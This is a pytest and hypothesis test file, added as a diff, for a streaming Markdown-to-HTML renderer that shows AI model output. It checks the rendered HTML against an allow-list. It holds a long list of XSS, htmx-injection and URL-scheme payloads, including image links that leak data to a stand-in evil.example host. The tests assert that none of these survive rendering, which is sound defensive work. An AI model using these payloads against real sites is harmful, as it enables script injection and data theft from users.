@@ -1,0 +1,394 @@
+"""Nothing that runs, loads or leaks comes out, and pieces give what the whole gives."""
+
+from __future__ import annotations
+
+import random
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from app.wire.markdown import MAX_CHARACTERS, MarkdownStream, render, split_blocks
+
+_BARE = "p br hr h1 h2 h3 h4 h5 h6 em strong s del pre blockquote ul li table thead tbody tr sup sub"
+ALLOWED: dict[str, set[str]] = {
+    **{tag: set() for tag in _BARE.split(" ")},
+    "a": {"href", "rel", "target"},
+    "img": {"src", "alt"},
+    "code": {"class"},
+    "span": {"class"},
+    "ol": {"start"},
+    "th": {"align"},
+    "td": {"align"},
+    "input": {"type", "disabled", "checked", "aria-label"},
+}
+
+
+class _Checker(HTMLParser):
+    """Reads HTML as a browser does and complains about everything the page's policy does not know."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.complaints: list[str] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in ALLOWED:
+            self.complaints.append(f"<{tag}>")
+            return
+        for name, value in attrs:
+            if name not in ALLOWED[tag]:
+                self.complaints.append(f"<{tag} {name}>")
+            if name == "href" and not re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE):
+                self.complaints.append(f"href={value}")
+            if name == "src" and not re.match(r"/files/[\w-]+$|data:image/(png|jpeg|gif|webp);base64,", value or ""):
+                self.complaints.append(f"src={value}")
+            if name == "class" and not re.fullmatch(r"language-[\w+#.-]{1,30}|[a-z]{1,3}\d?", value or ""):
+                self.complaints.append(f"class={value}")
+        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow ugc":
+            self.complaints.append("a link without rel")
+        if tag == "input" and (dict(attrs).get("type"), "disabled" in dict(attrs)) != ("checkbox", True):
+            self.complaints.append("an input that takes input")
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+
+    def handle_comment(self, data: str) -> None:
+        self.complaints.append(f"comment {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.complaints.append(f"declaration {decl}")
+
+    def handle_pi(self, data: str) -> None:
+        self.complaints.append(f"instruction {data}")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def complaints(html: str) -> list[str]:
+    checker = _Checker()
+    checker.feed(html)
+    checker.close()
+    # htmx 4 rewrites `<hx-` wherever it stands in the text of a fragment, attributes included
+    return checker.complaints + (["<hx-"] if "<hx-" in html.lower() else [])
+
+
+def text_of(html: str) -> str:
+    checker = _Checker()
+    checker.feed(html)
+    checker.close()
+    return checker.text
+
+
+PAYLOADS = [
+    # raw HTML, handlers, elements that run or load
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml;base64,AAAA#x'></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+    "<body onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<div style=background:url(//evil.example)>x</div>",
+    "<form action=//evil.example><input name=token><button>go</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=//evil.example/a.mp3 autoplay>",
+    "<marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><img src=x>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x/>",
+    "<!DOCTYPE html>",
+    "</p></div></body><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    # htmx
+    "<div hx-get=/api/ai/conversations hx-trigger=load>x</div>",
+    "<div data-hx-get=/x hx-on:click=alert(1)>x</div>",
+    "<hx-partial hx-target=body hx-swap=innerHTML>owned</hx-partial>",
+    "[x](https://a.example '<hx-a onmouseover=alert(1) x>')",
+    "![<hx-partial hx-target=body>](/files/a)",
+    "`<hx-partial hx-target=body>`",
+    "<div hx-sse:connect=/c/x/stream>x</div>",
+    "<span hx-ignore=false hx-boost=true>x</span>",
+    # schemes
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](%6Aavascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](data:image/svg+xml;base64,AAAA)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://a.example/1)",
+    "[x](//evil.example/x)",
+    "[x](/api/ai/chat/a/stop)",
+    "[x](../../logout)",
+    "[x](?preset=evil)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    '<https://a.example/"onmouseover=alert(1)>',
+    'https://a.example/"onmouseover="alert(1)',
+    'www.a.example"><img src=x onerror=alert(1)>',
+    '[x](https://a.example/"onclick="alert(1))',
+    "[x](<https://a.example/ onclick=alert(1)>)",
+    # what would be loaded
+    "![x](https://evil.example/?d=secret)",
+    "![x](//evil.example/?d=secret)",
+    "![x][r]\n\n[r]: https://evil.example/?d=secret",
+    "![x](http://127.0.0.1:8000/api)",
+    "![x](/api/ai/conversations)",
+    "![x](/files/../api/ai/conversations)",
+    "![x](/files/a?x=//evil.example)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x](data:image/svg+xml;base64,AAAA)",
+    "![x](data:text/html;base64,AAAA)",
+    '![x](data:image/png;base64,AAAA" onerror="alert(1))',
+    '![x" onerror="alert(1)](/files/a)',
+    "[![x](https://evil.example/a.png)](https://evil.example)",
+    "![![x](https://evil.example/1)](https://evil.example/2)",
+    # attributes that markdown itself may write
+    '```x" onmouseover="alert(1)\ncode\n```',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "```a class=evil hx-get=/x\ncode\n```",
+    "~~~ language-evil{onclick=alert(1)}\ncode\n~~~",
+    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
+    "- [x] <img src=x onerror=alert(1)>",
+    "- [ ](javascript:alert(1))",
+    "99999999999999999999. x",
+    "> [!NOTE]\n> <script>alert(1)</script>",
+    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
+    "<a id=composer name=composer>clobbered</a>",
+    "[a@b.example](mailto:a@b.example?subject=<script>)",
+    "\u202e<script>\u202calert(1)",
+    "\x00<script>alert(1)</script>\x00",
+    "\ud800<script>alert(1)</script>\udfff",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_leaves_nothing_that_runs_loads_or_leaks(payload: str) -> None:
+    assert complaints(render(payload)) == []
+    assert complaints(render(f"> - text {payload} text\n")) == []
+    assert complaints(stream([payload])) == []
+
+
+_MARKS = [*"<>\"'`-#|[]()!&*_~\\:", "```", "1. ", "> ", "\n", "\n\n", "    "]
+_PIECES = st.sampled_from([payload[:40] for payload in PAYLOADS] + _MARKS)
+
+
+@settings(deadline=None)
+@given(st.lists(_PIECES | st.text(max_size=12), max_size=40).map("".join))
+def test_no_text_at_all_leaves_anything_that_runs_loads_or_leaks(text: str) -> None:
+    assert complaints(render(text)) == []
+
+
+@settings(deadline=None)
+@given(st.lists(_PIECES | st.text(max_size=12), max_size=30).map("".join), st.randoms(use_true_random=False))
+def test_no_piece_of_a_stream_leaves_anything_either(text: str, choices: random.Random) -> None:
+    markdown = MarkdownStream()
+    for piece in cut(text, choices):
+        markdown.add(piece)
+        finished, tail = markdown.flush()
+        assert complaints(finished) == []
+        assert complaints(tail) == []
+    assert complaints(markdown.finish()[0]) == []
+
+
+def test_what_models_write_is_rendered() -> None:
+    html = render(
+        "# Title\n\n**bold** *it* ~~no~~ `x < y` https://example.com\n\n- [x] done\n- [ ] open\n\n"
+        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n3. three\n\n> quote\n"
+    )
+    for expected in (
+        "<h1>Title</h1>",
+        "<strong>bold</strong> <em>it</em> <s>no</s> <code>x &lt; y</code>",
+        '<a href="https://example.com"',
+        'type="checkbox"',
+        "> done",
+        '<td align="right">2</td>',
+        '<ol start="3">',
+        "<blockquote>",
+    ):
+        assert expected in html
+    assert html.count("checked") == 1
+
+
+def test_code_of_a_known_language_is_coloured() -> None:
+    assert '<code class="language-python"><span class="k">def</span>' in render("```python\ndef f(): pass\n```")
+
+
+@pytest.mark.parametrize("language", ["", "nosuchlanguage", "no such", "<b>"])
+def test_code_of_an_unknown_language_is_shown_as_it_is(language: str) -> None:
+    html = render(f"```{language}\nif a < b:\n```")
+    assert text_of(html) == "if a < b:\n\n"
+    assert "<span" not in html
+
+
+def test_leading_blank_lines_and_tabs_of_code_are_kept() -> None:
+    assert text_of(render("```python\n\n\tx = 1\n\n```")) == "\n\tx = 1\n\n\n"
+
+
+def test_a_foreign_image_is_a_link_that_names_its_host() -> None:
+    html = render("![a cat](https://images.example/cat.png?d=1)")
+    assert "<img" not in html
+    assert ">Image from images.example: a cat</a>" in html
+
+
+def test_our_own_and_inline_images_are_shown() -> None:
+    assert '<img src="/files/abc_1-2" alt="x">' in render("![x](/files/abc_1-2)")
+    assert '<img src="data:image/png;base64,AAAA" alt="">' in render("![](data:image/png;base64,AAAA)")
+
+
+def test_a_link_that_shows_another_address_is_followed_by_its_host() -> None:
+    assert ">paypal.com</a> (evil.example)" in render("[paypal.com](https://evil.example/login)")
+    assert ">https://paypal.com/x</a> (evil.example)" in render("[https://paypal.com/x](https://evil.example)")
+    assert "(xn--" in render("[bank](https://\u0430\u0440\u0440\u04cf\u0435.com)")
+    assert ">the docs</a></p>" in render("[the docs](https://docs.example)")
+    assert ">docs.example/a</a></p>" in render("[docs.example/a](https://www.docs.example/a)")
+
+
+def test_the_text_of_a_link_cannot_be_turned_around() -> None:
+    html = render("[\u202egpj.exe\u2066x](https://a.example)")
+    assert ">gpj.exex</a>" in html
+
+
+def test_text_that_is_nested_too_deeply_is_shown_as_text() -> None:
+    for text in (">" * 300 + " deep", "- " * 200 + "deep", "".join("  " * level + "- x\n" for level in range(200))):
+        html = render(text)
+        assert html.startswith("<pre>")
+        assert "deep" in html or "x" in html
+
+
+def test_text_beyond_the_limit_is_shown_as_text() -> None:
+    text = "**a** b\n" * (MAX_CHARACTERS // 8) + "**beyond**\n" * 100
+    html = render(text)
+    assert "<strong>a</strong>" in html
+    assert html.endswith("**beyond**\n</pre>\n")
+    assert "<strong>beyond" not in html
+
+
+# Streaming.
+
+
+def cut(text: str, choices: random.Random) -> list[str]:
+    pieces = []
+    while text:
+        length = choices.choice([1, 1, 2, 3, 8, 30])
+        pieces.append(text[:length])
+        text = text[length:]
+    return pieces
+
+
+def stream(pieces: list[str]) -> str:
+    """The HTML that stands at the end, with a flush after every piece."""
+    markdown = MarkdownStream()
+    html = ""
+    for piece in pieces:
+        markdown.add(piece)
+        html += markdown.flush()[0]
+    rest, replaces = markdown.finish()
+    return rest if replaces else html + rest
+
+
+DOCUMENTS = {
+    "paragraphs": "One\ntwo\n\nthree\n\n\nfour",
+    "setext": "Title\n=====\n\nnot yet\n---\nafter",
+    "lists": "- a\n- b\n\n  more b\n\n- c\n\n\npara\n\n1. x\n   1. y\n2. z\n* other",
+    "loose list later": "- a\n- b\n- c\n\n- d\n",
+    "fence": "text\n```python\ndef f():\n\n    return 1\n```\nafter\n~~~\nx\n~~~",
+    "unclosed fence": "a\n\n```js\nlet x = 1\n\n# not a heading",
+    "indented code": "a\n\n    code\n\n    more\n\nb",
+    "table": "before\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\nafter\n",
+    "table after text": "text\na | b\n--|--\n1 | 2\n\nx",
+    "quote": "> a\nlazy\n> > b\n\nc",
+    "rules": "a\n\n***\n\n---\n- x\n---\ny",
+    "definition before": "[a]: https://a.example\n\nsee [a]\n\nand [a] again",
+    "definition after": "see [a]\n\nand more\n\n[a]: https://a.example 'title'\n",
+    "definition with a long title": "x\n\n[a]: /b\n'title\nmore'\n\nhttps://c.example [a]",
+    "definition in a list": "see [a]\n\n- x\n\n  [a]: https://a.example\n\nend [a]",
+    "line ends": "a\r\nb\r\n\r\n```\r\nx\r\n```\r\rc",
+    "task list": "- [ ] a\n- [x] b\n\nc",
+    "alert": "> [!NOTE]\n> text\n\nafter",
+    "html stays text": "<div>\n\n*x*\n\n</div>\n\n<!-- a\n\nb -->",
+    "trailing spaces": "a  \nb\\\nc   \n\nd",
+    "surrogate halves": "a \ud83d\ude00 b\n\nc \ud83d d",
+}
+
+
+@pytest.mark.parametrize("document", DOCUMENTS.values(), ids=list(DOCUMENTS))
+def test_one_character_at_a_time_gives_what_the_whole_gives(document: str) -> None:
+    assert stream(list(document)) == render(document.replace("\r\n", "\n").replace("\r", "\n"))
+
+
+_LINES = ["# h", "- a", "  - b", "1. x", "> q", "```", "    c", "| a |\n|---|", "", "---", "===", "text", "[a]: /x"]
+_BLOCKS = st.sampled_from([*DOCUMENTS.values(), *(f"{line}\n" for line in _LINES), "[a] *b*\n", "\t- t\n"])
+
+
+@settings(deadline=None)
+@given(st.lists(_BLOCKS, min_size=1, max_size=8).map("".join), st.randoms(use_true_random=False))
+def test_any_cuts_give_what_the_whole_gives(document: str, choices: random.Random) -> None:
+    whole = render(document.replace("\r\n", "\n").replace("\r", "\n"))
+    assert stream(cut(document, choices)) == whole
+
+
+def test_a_text_that_outgrows_the_limit_ends_as_the_whole_does() -> None:
+    document = "para\n\n" * (MAX_CHARACTERS // 6 + 500)
+    pieces = [document[start : start + 7_000] for start in range(0, len(document), 7_000)]
+    assert stream(pieces) == render(document)
+
+
+def test_a_finished_block_is_never_sent_again() -> None:
+    markdown = MarkdownStream()
+    markdown.add("first\n\nsecond\n\nthi")
+    finished, tail = markdown.flush()
+    assert (finished, tail) == ("<p>first</p>\n", "<p>second</p>\n<p>thi</p>\n")
+    markdown.add("rd\n")
+    assert markdown.flush() == ("<p>second</p>\n", "<p>third</p>\n")
+    assert markdown.finish() == ("<p>third</p>\n", False)
+
+
+def test_an_unfinished_code_block_is_not_coloured_yet() -> None:
+    markdown = MarkdownStream()
+    markdown.add("```python\ndef f():\n")
+    assert "<span" not in markdown.flush()[1]
+    markdown.add("    pass\n```\n\nnext\n")
+    assert "<span" in markdown.flush()[0]
+
+
+def test_only_complete_lines_finish_a_block() -> None:
+    assert split_blocks("a\n\nb", done=False) == ("", "a\n\nb")
+    assert split_blocks("a\n\nb\n", done=False) == ("a\n\n", "b\n")
+    assert split_blocks("a\n\nb", done=True) == ("a\n\nb", "")
+    assert split_blocks("", done=False) == ("", "")
